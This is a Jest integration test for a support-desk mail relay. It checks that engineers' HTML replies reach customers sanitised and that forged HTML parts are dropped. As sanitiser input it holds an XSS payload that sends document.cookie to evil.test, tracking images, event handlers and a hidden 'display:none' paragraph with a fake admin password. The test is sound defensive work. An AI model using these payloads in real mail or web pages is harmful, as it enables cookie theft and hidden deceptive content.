/**
 * HTML mail on real Dovecot and Postfix (issue 14, part 3): the registration
 * reply the customer gets is multipart/alternative with the mailbox's
 * signature in both parts; an engineer's HTML answer (a <script>, a remote
 * image, an event handler, the commands and the quoted notification in it)
 * reaches the customer sanitised, with its text part; the forged version (an
 * HTML part with words its text part has not) reaches them as the text.
 */
import path from 'node:path';
import nodemailer from 'nodemailer';
import { CUSTOMER, ENGINEER, SUPPORT, useMailServers } from '../support/servers';
import { exited, query, startDaemon, tmpDir, waitFor, writeConfig } from '../support/env';
import { mailsOf } from '../support/imap';
import { expectSentAlternative } from '../support/alternative';

jest.setTimeout(120_000);
const mx = useMailServers();

const mailOf = async (user: typeof CUSTOMER, count: number) => (await mailsOf(mx.servers, user, count)).map((mail) => ({ raw: mail.raw, mail }));

const SIGNATURE = `    signature:
      text: "ООО «Ромашка Софт», служба поддержки\\n+7 495 000-00-00"
      html: '<b>ООО «Ромашка Софт»</b>, служба поддержки<br>+7 495 000-00-00<img src="https://tracker.evil.test/sig.gif">'
`;

test('registration with the signature in both parts; an engineer\'s HTML answer relayed sanitised with its text part; a forged HTML part is not relayed', async () => {
  const dir = tmpDir('html');
  const dataDir = path.join(dir, 'data');
  const daemon = startDaemon(writeConfig(dir, mx.servers, { dataDir, engineers: true, mailboxExtra: SIGNATURE }), path.join(dir, 'daemon.log'));
  const smtp = nodemailer.createTransport({ host: '127.0.0.1', port: mx.servers.smtpPort, secure: false, ignoreTLS: true });
  try {
    await smtp.sendMail({ from: `Иван <${CUSTOMER.address}>`, to: SUPPORT.address, subject: 'Не выгружается <отчёт>', text: 'Отчёт за октябрь не выгружается, ошибка 500.' });
    const [registration] = await mailOf(CUSTOMER, 1);
    const reg = await expectSentAlternative(registration.raw);
    const number = /\[(SUP-\d{4}-\d{6})\]/.exec(registration.mail.subject!)![1];
    expect(reg.text).toContain(`Регистрационный номер: ${number}`);
    expect(reg.text).toContain('ООО «Ромашка Софт», служба поддержки\n+7 495 000-00-00');
    expect(reg.html).toMatch(new RegExp(`<strong[^>]*>${number}</strong>`));
    expect(reg.html).toMatch(/<b[^>]*>ООО «Ромашка Софт»<\/b>, служба поддержки<br ?\/?>\+7 495 000-00-00/);
    expect(reg.html).toContain('Не выгружается &lt;отчёт&gt;');
    expect(reg.html).not.toMatch(/evil|<img/); // the signature's remote image went at load

    // The engineer's notification has both parts too, and no customer's signature.
    const [notification] = await mailOf(ENGINEER, 1);
    const note = await expectSentAlternative(notification.raw);
    expect(note.text + note.html).not.toContain('Ромашка Софт');

    // The engineer answers from an HTML mail client: commands on top, the notification quoted below.
    const quoted = notification.mail.text!.split('\n').map((l) => `> ${l}`).join('\n');
    const reply = (text: string, html: string) =>
      smtp.sendMail({
        from: ENGINEER.address,
        to: notification.mail.replyTo!.value[0].address!,
        subject: `Re: ${notification.mail.subject}`,
        inReplyTo: notification.mail.messageId,
        references: [notification.mail.messageId!],
        text,
        html,
      });
    await reply(
      `#status awaiting_info\n\nПришлите, пожалуйста, журнал за 20 ноября.\n\nOn Fri, 20 Nov 2026 at 12:30, Support <${SUPPORT.address}> wrote:\n${quoted}`,
      '<div dir="ltr"><div>#status awaiting_info</div><div><br></div><div onclick="steal()">Пришлите, <b>пожалуйста</b>, журнал за 20 ноября.</div>' +
        '<script>document.location="https://evil.test/?c="+document.cookie</script><img src="https://evil.test/pixel.gif" width="1" height="1" onerror="alert(1)"></div>' +
        `<div class="gmail_quote"><div class="gmail_attr">On Fri, 20 Nov 2026 at 12:30, Support &lt;${SUPPORT.address}&gt; wrote:</div><blockquote class="gmail_quote">${notification.mail.html || ''}</blockquote></div>`,
    );
    const [, answer] = await mailOf(CUSTOMER, 2);
    const sent = await expectSentAlternative(answer.raw);
    expect(sent.text).toContain('Пришлите, пожалуйста, журнал за 20 ноября.');
    expect(sent.text).toContain('ООО «Ромашка Софт»');
    expect(sent.html).toMatch(/Пришлите, <b[^>]*>пожалуйста<\/b>, журнал за 20 ноября\./); // the engineer's own HTML
    expect(sent.html).toContain('ООО «Ромашка Софт»');
    expect(sent.html).not.toMatch(/<script|document\.cookie|evil\.test|<img|onclick|onerror|steal/i);
    expect(sent.text + sent.html).not.toMatch(/#status|Пишите ответ выше|Новое обращение|anna@vendor\.test/);
    expect(query<{ status: string }>(dataDir, 'SELECT status FROM tickets')[0].status).toBe('awaiting_info');

    // Forged: the HTML part carries words its text part has not (hidden from the engineer's own view).
    await reply('Спасибо,\nждём журнал.', '<p>Спасибо,</p><p style="display:none">Пароль администратора: hunter2</p><p>ждём журнал.</p>');
    const [, , forged] = await mailOf(CUSTOMER, 3);
    const f = await expectSentAlternative(forged.raw);
    expect(f.text).toContain('Спасибо,\nждём журнал.');
    expect(f.text + f.html).not.toMatch(/hunter2|Пароль администратора|display/);
    await waitFor('the relays recorded', () => query<{ data_json: string }>(dataDir, "SELECT data_json FROM events WHERE type = 'reply.relayed' ORDER BY id").length === 2, 30_000, 200);
    expect(query<{ data_json: string }>(dataDir, "SELECT data_json FROM events WHERE type = 'reply.relayed' ORDER BY id").map((e) => JSON.parse(e.data_json).html)).toEqual(['own', 'text']);

    // An inline screenshot: the customer's HTML shows it by its Content-ID, and the image goes along, that Content-ID on it.
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
    await smtp.sendMail({
      from: ENGINEER.address,
      to: notification.mail.replyTo!.value[0].address!,
      subject: `Re: ${notification.mail.subject}`,
      text: 'Нажмите кнопку на снимке.',
      html: '<p>Нажмите кнопку на снимке.</p><img src="cid:shot-1@vendor.test" alt="">',
      attachments: [{ filename: 'снимок.png', content: png, cid: 'shot-1@vendor.test' }],
    });
    const [, , , shot] = await mailOf(CUSTOMER, 4);
    const withImage = await expectSentAlternative(shot.raw);
    expect(withImage.html).toContain(`src="data:image/png;base64,${png.toString('base64')}"`); // mailparser put the image its cid: named in its place: the two are linked
    expect(shot.mail.attachments.map((x) => [x.filename, x.contentId, x.content.equals(png)])).toEqual([['снимок.png', '<shot-1@vendor.test>', true]]);
  } finally {
    smtp.close();
    daemon.kill('SIGTERM');
    expect((await exited(daemon)).code).toBe(0);
  }
});
